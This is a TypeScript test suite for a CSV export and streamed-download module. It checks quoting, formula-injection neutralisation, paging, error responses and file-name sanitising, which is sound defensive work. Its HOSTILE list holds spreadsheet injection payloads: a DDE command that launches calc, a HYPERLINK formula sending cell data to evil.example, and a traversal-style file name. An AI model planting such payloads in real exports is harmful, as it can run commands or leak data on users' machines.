import { describe, expect, it, vi } from 'vitest';
import { csvExportHref } from '@/lib/csv-exports';
import { DomainError } from '@/server/errors';
import { log } from '@/server/log';
import { parseCsv } from '@/server/testing/csv';
import { csvCell, csvChunks, csvFileName, csvHeaderLine, csvLines, keysetPages, offsetPages, streamedDownload, type CsvColumn, type CsvProgress, type DownloadOptions } from './csv-download';

const HOSTILE = [
  'plain', 'with,comma', 'with "quotes"', '"', 'line\nbreak', 'carriage\rreturn', 'crlf\r\ninside',
  '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1',
  ' =leading space', "'already quoted", 'ünïcødé ✓ 日本語 👩‍💻', ',', '',
];

/** What a spreadsheet shows for a neutralised cell: the value, behind a leading ' when it could start a formula. */
const shown = (v: string) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);

interface Row { name: string; n: number | null; at: Date | null; ok: boolean }
const COLUMNS: CsvColumn<Row>[] = [
  { header: 'name', value: (r) => r.name },
  { header: 'n', value: (r) => r.n },
  { header: 'at', value: (r) => r.at },
  { header: 'ok', value: (r) => r.ok },
];

async function collect(chunks: AsyncIterable<Uint8Array>): Promise<{ text: string; count: number }> {
  const dec = new TextDecoder();
  let text = '';
  let count = 0;
  for await (const c of chunks) {
    text += dec.decode(c, { stream: true });
    count++;
  }
  return { text: text + dec.decode(), count };
}

async function* pagesOf<R>(...pages: R[][]): AsyncGenerator<R[]> {
  for (const p of pages) yield p;
}

describe('csvCell', () => {
  it('writes numbers, booleans and times as they are, null and non-finite numbers as empty', () => {
    expect([csvCell(42), csvCell(-1.5), csvCell(0), csvCell(true), csvCell(false), csvCell(12n)]).toEqual(['42', '-1.5', '0', 'true', 'false', '12']);
    expect(csvCell(new Date('2026-01-15T12:00:00Z'))).toBe('2026-01-15T12:00:00.000Z');
    expect([csvCell(null), csvCell(undefined), csvCell(Number.NaN), csvCell(Infinity), csvCell(new Date(Number.NaN))]).toEqual(['', '', '', '', '']);
  });

  it('quotes and neutralises every hostile text so that it reads back as one cell, never a formula', () => {
    for (const v of HOSTILE) {
      const cell = csvCell(v);
      expect(parseCsv(`${cell}\r\n`), JSON.stringify(v)).toEqual([[shown(v)]]);
      expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(csvCell('=cmd')).toBe("'=cmd");
    expect(csvCell('a "b", c')).toBe('"a ""b"", c"');
    expect(csvCell('one\ntwo')).toBe('"one\ntwo"');
  });
});

describe('csvLines and csvChunks', () => {
  const rows: Row[] = HOSTILE.map((name, i) => ({ name, n: i % 3 ? i : null, at: i === 2 ? new Date(Date.UTC(2026, 0, 15)) : null, ok: i % 2 === 0 }));

  it('writes one record per row, every record as many fields as the header, CRLF-ended', () => {
    const text = csvHeaderLine(COLUMNS as CsvColumn<never>[]) + csvLines(COLUMNS, rows);
    const parsed = parseCsv(text);
    expect(parsed[0]).toEqual(['name', 'n', 'at', 'ok']);
    expect(parsed.slice(1)).toEqual(rows.map((r) => [shown(r.name), r.n === null ? '' : String(r.n), r.at ? r.at.toISOString() : '', String(r.ok)]));
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it('streams the header with the first page, then a chunk per page, counting the rows handed out', async () => {
    const progress: CsvProgress = { rows: 0, complete: false };
    const { text, count } = await collect(csvChunks(COLUMNS, pagesOf(rows.slice(0, 5), [], rows.slice(5, 12), rows.slice(12)), progress));
    expect(count).toBe(3);
    expect(parseCsv(text)).toHaveLength(rows.length + 1);
    expect(text.startsWith('name,n,at,ok\r\nplain,')).toBe(true);
    expect(progress).toEqual({ rows: rows.length, complete: true });
  });

  it('is the header alone for no rows', async () => {
    const progress: CsvProgress = { rows: 0, complete: false };
    expect(await collect(csvChunks(COLUMNS, pagesOf<Row>([], []), progress))).toEqual({ text: 'name,n,at,ok\r\n', count: 1 });
    expect(progress).toEqual({ rows: 0, complete: true });
  });

  it('reads a page only when the one before has been taken, and stops reading when the consumer stops', async () => {
    const reads: number[] = [];
    const pages = offsetPages(async (offset, limit) => {
      reads.push(offset);
      return Array.from({ length: limit }, (_, i) => ({ name: `r${offset + i}`, n: offset + i, at: null, ok: true }));
    }, 2);
    const progress: CsvProgress = { rows: 0, complete: false };
    const chunks = csvChunks(COLUMNS, pages, progress);
    const first = await chunks.next();
    expect(new TextDecoder().decode(first.value as Uint8Array)).toBe('name,n,at,ok\r\nr0,0,,true\r\nr1,1,,true\r\n');
    expect(reads).toEqual([0]);
    await chunks.next();
    expect(reads).toEqual([0, 2]);
    await chunks.return(undefined);
    expect(reads).toEqual([0, 2]);
    expect(progress).toEqual({ rows: 4, complete: false });
  });

  it('carries a read that fails to the consumer', async () => {
    const pages = offsetPages<Row>(async (offset) => {
      if (offset > 0) throw new Error('statement timeout');
      return [{ name: 'a', n: 1, at: null, ok: true }];
    }, 1);
    const progress: CsvProgress = { rows: 0, complete: false };
    await expect(collect(csvChunks(COLUMNS, pages, progress))).rejects.toThrow('statement timeout');
    expect(progress).toEqual({ rows: 1, complete: false });
  });
});

describe('paging', () => {
  it('offsetPages reads until a short page (one empty read after an exact multiple)', async () => {
    const data = Array.from({ length: 6 }, (_, i) => i);
    const asked: Array<[number, number]> = [];
    const out: number[][] = [];
    for await (const p of offsetPages(async (o, l) => { asked.push([o, l]); return data.slice(o, o + l); }, 3)) out.push([...p]);
    expect(out).toEqual([[0, 1, 2], [3, 4, 5], []]);
    expect(asked).toEqual([[0, 3], [3, 3], [6, 3]]);
  });

  it('keysetPages passes the key of the last row read, and stops when aborted', async () => {
    const data = [9, 8, 7, 6, 5, 4, 3];
    const after: Array<number | null> = [];
    const out: number[][] = [];
    for await (const p of keysetPages(async (a: number | null, l) => { after.push(a); return data.filter((d) => a === null || d < a).slice(0, l); }, (r) => r, 3)) out.push([...p]);
    expect(out).toEqual([[9, 8, 7], [6, 5, 4], [3]]);
    expect(after).toEqual([null, 7, 4]);

    const ctl = new AbortController();
    const seen: number[][] = [];
    for await (const p of keysetPages(async (a: number | null, l) => data.filter((d) => a === null || d < a).slice(0, l), (r) => r, 2, ctl.signal)) {
      seen.push([...p]);
      ctl.abort();
    }
    expect(seen).toEqual([[9, 8]]);
  });
});

describe('streamedDownload', () => {
  const utf8 = new TextEncoder();
  /** chunks 'a', 'b', … that note whether they were closed; `fail(i)` throws instead of the i-th */
  function file(n: number, fail?: (i: number) => Error | null) {
    const seen = { read: 0, closed: false };
    async function* chunks(): AsyncGenerator<Uint8Array, void, undefined> {
      try {
        for (let i = 0; i < n; i++) {
          seen.read++;
          const err = fail?.(i);
          if (err) throw err;
          yield utf8.encode(String.fromCharCode(97 + i));
        }
      } finally {
        seen.closed = true;
      }
    }
    return { seen, open: () => ({ chunks: chunks(), contentType: 'text/plain; charset=utf-8', fileName: 'meshward-x-20260115T120000Z.txt' }) };
  }
  const request = (signal?: AbortSignal) => new Request('http://localhost/x', { signal });
  const options = (over: Partial<DownloadOptions> = {}) => {
    const finished = vi.fn(async () => undefined);
    return { finished, opts: { label: 'test export', finished, ...over } };
  };

  it('streams the chunks with the download headers, then closes them and runs finished once', async () => {
    const { seen, open } = file(3);
    const { finished, opts } = options();
    const res = await streamedDownload(request(), open, opts);
    expect(res.status).toBe(200);
    expect(Object.fromEntries(res.headers)).toEqual({
      'content-type': 'text/plain; charset=utf-8',
      'content-disposition': 'attachment; filename="meshward-x-20260115T120000Z.txt"',
      'cache-control': 'no-store',
      'x-content-type-options': 'nosniff',
    });
    expect(await res.text()).toBe('abc');
    expect(seen.closed).toBe(true);
    expect(finished).toHaveBeenCalledTimes(1);
  });

  it('reads the first chunk before answering: a DomainError is its status as JSON (with errorFields), anything else a 500; no finished', async () => {
    const quiet = vi.spyOn(log, 'error').mockImplementation(() => undefined);
    try {
      const { finished, opts } = options({ errorFields: (e) => ({ column: e.column }) });
      const bad = await streamedDownload(request(), file(2, () => new DomainError('BAD_REQUEST', 'col 3: fix this', 3)).open, opts);
      expect(bad.status).toBe(400);
      expect(bad.headers.get('content-disposition')).toBeNull();
      expect(await bad.json()).toEqual({ error: 'col 3: fix this', column: 3 });
      const slow = await streamedDownload(request(), file(2, () => new DomainError('TOO_MANY_REQUESTS', 'later')).open, options().opts);
      expect([slow.status, await slow.json()]).toEqual([429, { error: 'later' }]);
      const broken = await streamedDownload(request(), () => { throw new Error('secret detail'); }, opts);
      expect([broken.status, await broken.json()]).toEqual([500, { error: 'Something went wrong on the server' }]);
      expect(finished).not.toHaveBeenCalled();
      expect(quiet).toHaveBeenCalledWith(expect.objectContaining({ err: expect.any(Error) }), 'test export failed');
    } finally {
      quiet.mockRestore();
    }
  });

  it('breaks the download on a read that fails mid-stream, and still runs finished', async () => {
    const quiet = vi.spyOn(log, 'error').mockImplementation(() => undefined);
    try {
      const { finished, opts } = options({ logFields: { table: 't' } });
      const res = await streamedDownload(request(), file(3, (i) => (i === 1 ? new Error('statement timeout') : null)).open, opts);
      await expect(res.text()).rejects.toThrow('statement timeout');
      expect(finished).toHaveBeenCalledTimes(1);
      expect(quiet).toHaveBeenCalledWith(expect.objectContaining({ table: 't' }), 'test export failed mid-stream');
    } finally {
      quiet.mockRestore();
    }
  });

  it('stops reading when the download is cancelled or the request aborted, closing the chunks and running finished once', async () => {
    const cancelled = file(5);
    const c = options();
    const reader = (await streamedDownload(request(), cancelled.open, c.opts)).body!.getReader();
    expect(new TextDecoder().decode((await reader.read()).value)).toBe('a');
    await reader.cancel();
    expect(cancelled.seen).toEqual({ read: expect.any(Number), closed: true });
    expect(cancelled.seen.read).toBeLessThan(5);
    expect(c.finished).toHaveBeenCalledTimes(1);

    const ctl = new AbortController();
    const aborted = file(5);
    const a = options();
    const res = await streamedDownload(request(ctl.signal), aborted.open, a.opts);
    const r = res.body!.getReader();
    await r.read();
    ctl.abort();
    for (let x = await r.read(); !x.done; x = await r.read());
    await expect.poll(() => a.finished.mock.calls.length).toBe(1);
    expect(aborted.seen.closed).toBe(true);
    expect(aborted.seen.read).toBeLessThan(5);
  });

  it('logs a finished that fails, without breaking a download already sent', async () => {
    const quiet = vi.spyOn(log, 'error').mockImplementation(() => undefined);
    try {
      const res = await streamedDownload(request(), file(2).open, { label: 'test export', finished: () => Promise.reject(new Error('audit down')) });
      expect(await res.text()).toBe('ab');
      expect(quiet).toHaveBeenCalledWith(expect.objectContaining({ err: expect.any(Error) }), 'test export: recording the export failed');
    } finally {
      quiet.mockRestore();
    }
  });
});

describe('file names and links', () => {
  const now = new Date('2026-01-15T12:34:56.789Z');
  it('names the file after the table and its range, with nothing but [a-z0-9.-]', () => {
    expect(csvFileName('flows', { from: new Date('2026-01-15T11:00:00Z'), to: new Date('2026-01-15T12:00:00Z') }, now)).toBe('meshward-flows-20260115T110000Z-20260115T120000Z.csv');
    expect(csvFileName('audit-log', { from: null, to: null }, now)).toBe('meshward-audit-log-start-20260115T123456Z.csv');
    expect(csvFileName('fleet-proxies', null, now)).toBe('meshward-fleet-proxies-20260115T123456Z.csv');
    expect(csvFileName('../"evil"\r\nx', null, now)).toMatch(/^meshward-[a-z0-9-]+-20260115T123456Z\.csv$/);
  });

  it('links carry the input as tRPC does (superjson), dates included', () => {
    expect(csvExportHref('fleet-tokens')).toBe('/api/export/fleet-tokens');
    const href = csvExportHref('audit-log', { action: 'a&b', from: new Date('2026-01-01T00:00:00Z') });
    const input = JSON.parse(new URL(href, 'http://x').searchParams.get('input')!) as { json: unknown; meta: unknown };
    expect(input.json).toEqual({ action: 'a&b', from: '2026-01-01T00:00:00.000Z' });
    expect(input.meta).toEqual({ values: { from: ['Date'] }, v: 1 });
  });
});
